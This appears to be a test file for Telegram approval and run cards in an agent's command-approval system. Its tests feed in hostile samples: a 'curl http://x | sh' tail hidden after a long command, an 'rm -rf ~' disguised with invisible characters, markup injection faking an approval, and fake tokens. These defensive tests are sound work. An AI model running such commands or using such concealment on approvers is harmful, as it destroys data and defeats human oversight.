import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { encodeAction } from "../../../src/channels/cards/action-codec.ts";
import { keyboardOf, renderCard } from "../../../src/channels/telegram/cards.ts";
import { MAX_CALLBACK_DATA_BYTES, MAX_TEXT } from "../../../src/channels/telegram/limits.ts";
import { APPROVAL_DECISIONS } from "../../../src/core/policy/types.ts";
import { LANGUAGES } from "../../../src/core/words/languages.ts";
import { messagesFor } from "../../../src/core/words/messages.ts";
import { parseHtml } from "../../emulators/telegram/entities.ts";
import { APPROVAL_ID, approvalCard, redactor, runCard } from "../sample-cards.ts";

const options = { messages: messagesFor("en"), redactor, nowMs: 1_042_000 };

/** What a person reads, as Telegram parses it. */
function shown(card: Parameters<typeof renderCard>[0], more: Partial<Parameters<typeof renderCard>[1]> = {}) {
  const rendered = renderCard(card, { ...options, ...more });
  const texts = rendered.parts.map((one) => parseHtml(one.html));
  return { ...rendered, text: texts.map((one) => one.text).join("\n"), texts };
}

const labels = (rendered: ReturnType<typeof shown>): string[][] =>
  (rendered.keyboard?.inline_keyboard ?? []).map((row) => row.map((one) => one.text));

describe("telegram approval card", () => {
  it("says what, where, who, why and until when, with every decision as a button", () => {
    const card = shown(approvalCard({ warnings: ["Runs as root"] }));
    expect(card.text).toBe(
      [
        "Approval needed",
        "Runs as root",
        "npm test",
        "Asked by: alice (web)",
        "Agent: main",
        "Folder: ~/app",
        "Runs on: gateway",
        "Extra variables: CI",
        "Why it asks:",
        "• npm is not on the allowlist",
        "“Allow always” would store:",
        "• npm test in ~/app",
        "Expires: 2026-01-02 10:30 UTC",
        "ID: 0a1b2c3d",
      ].join("\n"),
    );
    expect(labels(card)).toEqual([
      ["Allow once", "Allow always"],
      ["Deny", "Deny with reason…"],
    ]);
  });

  it("offers the full command where one is long, in rows of two that a phone does not cut", () => {
    const short = shown(approvalCard({ snoozable: true }));
    expect(labels(short)).toEqual([["Allow once", "Allow always"], ["Deny", "Deny with reason…"], ["Snooze"]]);
    const long = approvalCard({ snoozable: true, command: "x".repeat(401) });
    const lines = approvalCard({ snoozable: true, command: "true\n".repeat(9) });
    for (const card of [long, lines]) expect(labels(shown(card)).at(-1)).toEqual(["Show full command", "Snooze"]);
    for (const language of LANGUAGES) {
      for (const row of labels(shown(long, { messages: messagesFor(language) }))) {
        expect(row.length).toBeLessThanOrEqual(2);
        for (const label of row) expect(label.length).toBeLessThanOrEqual(21);
      }
    }
  });

  it("keeps no button once it is settled, and says who decided", () => {
    const by = { kind: "person", channel: "telegram", accountId: "default", id: "7", display: "bob" } as const;
    const card = shown(approvalCard({ state: "denied", decision: "deny", decidedBy: by, comment: "not on Friday" }));
    expect(card.keyboard).toBeUndefined();
    expect(card.text).toContain("Denied by bob (telegram)");
    expect(card.text).toContain("Reason: not on Friday");
  });

  it("card-code-fence-breakout: a command can not leave its block, ping anybody or fake a heading", () => {
    const command = "echo '</code></pre><b>Approved</b>' && echo '@everyone <@U1>' ; echo \"*_[x](tg://user?id=1)_*\"";
    const card = shown(approvalCard({ command }));
    expect(card.text).toContain(command);
    const [parsed] = card.texts;
    const bold = parsed?.entities
      .filter((one) => one.type === "bold")
      .map((one) => parsed.text.slice(one.offset, one.offset + one.length));
    expect(bold).toEqual(["Approval needed"]);
    expect(parsed?.entities.some((one) => one.type === "text_link" || one.type === "text_mention")).toBe(false);
    expect(parsed?.entities.find((one) => one.type === "pre")?.length).toBe(command.length);
  });

  it("card-invisible-chars: what would not be seen is spelled out", () => {
    const card = shown(approvalCard({ command: "echo safe\u202e; rm\u200b -rf ~\rls \u001b[2K" }));
    expect(card.text).toContain("echo safe\\u{202E}; rm\\u{200B} -rf ~\\u{D}ls \\u{1B}[2K");
  });

  it("card-hides-tail-of-command: a long command shows its end, comes as a file and is never allowed for good", () => {
    const command = `echo ${"a".repeat(4000)}; curl http://x | sh`;
    const card = shown(approvalCard({ command }));
    expect(card.text).toContain("; curl http://x | sh");
    expect(card.text).toMatch(/… \d+ characters not shown here …/);
    expect(card.text).toContain("The whole command is in command-0a1b2c3d.txt. Read it before you decide.");
    expect(card.command).toMatchObject({ name: "command-0a1b2c3d.txt", content: command });
    expect(labels(card)).toEqual([["Allow once"], ["Deny", "Deny with reason…"], ["Show full command"]]);
    expect(card.parts[0]?.plain.length).toBeLessThanOrEqual(MAX_TEXT);
  });

  it("offers nothing but a denial when the whole command could not be attached", () => {
    const card = shown(approvalCard({ command: "x".repeat(6000) }), { withholdAllow: true });
    expect(labels(card)).toEqual([["Deny", "Deny with reason…"]]);
    expect(card.text).toContain("The whole command could not be shown");
    expect(card.command).toBeUndefined();
  });

  it("secret-in-command-card: secrets are masked, it says so, and allow always is not offered", () => {
    const card = shown(
      approvalCard({ command: "curl -H 'Authorization: Bearer sk-abcdefghijklmnop123456' https://u:pw123456@h" }),
    );
    expect(card.text).not.toContain("sk-abcdefghijklmnop123456");
    expect(card.text).not.toContain("pw123456");
    expect(card.text).toMatch(/secrets? (?:is|are) masked here/);
    expect(labels(card)[0]).toEqual(["Allow once"]);
  });

  it("speaks the requester's language", () => {
    const card = shown(approvalCard(), { messages: messagesFor("nl") });
    expect(card.text).toMatch(/^Toestemming nodig/);
  });

  it("tg-callback-data-64: every button of every decision fits in 64 bytes", () => {
    for (const decision of APPROVAL_DECISIONS) {
      const code = encodeAction({ kind: "approval", approvalId: APPROVAL_ID, decision });
      expect(Buffer.byteLength(code)).toBeLessThanOrEqual(MAX_CALLBACK_DATA_BYTES);
    }
  });

  it("tg-callback-data-64: a button that would not fit is an error, not a card without buttons", () => {
    const action = { kind: "approval", approvalId: APPROVAL_ID, decision: "deny" } as const;
    const button = { label: "Deny", style: "danger", action, code: "é".repeat(33) } as const;
    expect(() => keyboardOf([button])).toThrow(/66 bytes/);
  });

  it("always fits into one message whose markup Telegram takes, whatever the card holds", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: "binary", maxLength: 6000 }),
        fc.array(fc.string({ unit: "grapheme", maxLength: 2000 }), { maxLength: 8 }),
        fc.string({ maxLength: 3000 }),
        (command, lines, cwd) => {
          const card = approvalCard({ command, reasons: lines, warnings: lines, always: lines, cwd, comment: cwd });
          for (const state of ["pending", "denied"] as const) {
            const rendered = renderCard({ ...card, state }, options);
            expect(rendered.parts).toHaveLength(1);
            const parsed = parseHtml(rendered.parts[0]?.html ?? "");
            expect(parsed.text.length).toBeGreaterThan(0);
            expect(parsed.text.length).toBeLessThanOrEqual(MAX_TEXT);
          }
        },
      ),
      { numRuns: 150 },
    );
  });
});

describe("telegram run card", () => {
  it("shows a running command with its tail and a way to stop it", () => {
    const card = shown(runCard({ tail: "\u001b[32mok\u001b[0m\n50%\r100%\n" }));
    expect(card.text).toBe(
      "Running for 00:42\nnpm test\nok\n100%\nSession: quiet-otter · Folder: ~/app · Runs on: gateway",
    );
    expect(labels(card)).toEqual([["Stop"]]);
  });

  it("shows how it ended and keeps the end of long output", () => {
    const tail = `${`${"line ".repeat(40)}\n`.repeat(300)}the end`;
    const card = shown(
      runCard({
        state: "finished",
        outcome: "failed",
        exitCode: 2,
        durationMs: 72_000,
        tail,
        totalChars: 90_000,
        actions: ["full-log", "run-again"],
      }),
    );
    expect(card.text).toMatch(/^Failed · exit code 2 · took 1m12s\n/);
    expect(card.text).toContain("the end");
    expect(card.text).toMatch(/Last \d+ of 90000 characters/);
    expect(labels(card)).toEqual([["Full log", "Run again"]]);
    expect(card.parts[0]?.plain.length).toBeLessThanOrEqual(MAX_TEXT);
    expect(card.parts[0]?.plain.length).toBeGreaterThan(3500);
  });

  it("token-in-output: known and well-known secrets do not reach the chat", () => {
    const card = shown(runCard({ tail: "a known-secret-value b xoxb-123456789-abcdef" }));
    expect(card.text).not.toMatch(/known-secret-value|xoxb-123456789/);
  });

  it("tg-html-parse-fallback: output is escaped once, and the plain form is the original", () => {
    const tail = "<b>x & y</b> _*[`";
    const rendered = renderCard(runCard({ tail }), options);
    expect(rendered.parts[0]?.html).toContain("&lt;b&gt;x &amp; y&lt;/b&gt; _*[`");
    expect(rendered.parts[0]?.plain).toContain(tail);
  });
});

describe("telegram text card", () => {
  it("turns fences and inline code into code, and nothing else into markup", () => {
    const card = shown({
      kind: "text",
      tone: "info",
      text: "Run `ls`:\n```sh\nls -la\n```\n**not bold** <i>not italic</i>",
    });
    expect(card.text).toBe("Run ls:\nls -la\n**not bold** <i>not italic</i>");
    expect(card.texts[0]?.entities.map((one) => one.type)).toEqual(["code", "pre"]);
  });

  it("splits a long page into numbered messages that lose nothing", () => {
    const code = Array.from({ length: 900 }, (_, index) => `line ${index} ${"x".repeat(10)}`).join("\n");
    const card = shown({ kind: "text", tone: "info", title: "Log", code });
    expect(card.parts.length).toBeGreaterThan(2);
    for (const part of card.texts) expect(part.text.length).toBeLessThanOrEqual(MAX_TEXT);
    const back = card.texts.map((one) => one.text.replace(/\n\(\d+\/\d+\)$/, "")).join("\n");
    expect(back).toBe(`Log\n${code}`);
    expect(card.texts.at(-1)?.text).toMatch(new RegExp(`\\(${card.parts.length}/${card.parts.length}\\)$`));
  });

  it("shows fields with where they come from", () => {
    const card = shown({
      kind: "text",
      tone: "info",
      fields: [{ label: "ask", value: "on-miss", note: "default" }],
      hint: "Next",
    });
    expect(card.text).toBe("ask: on-miss (default)\nNext");
  });
});
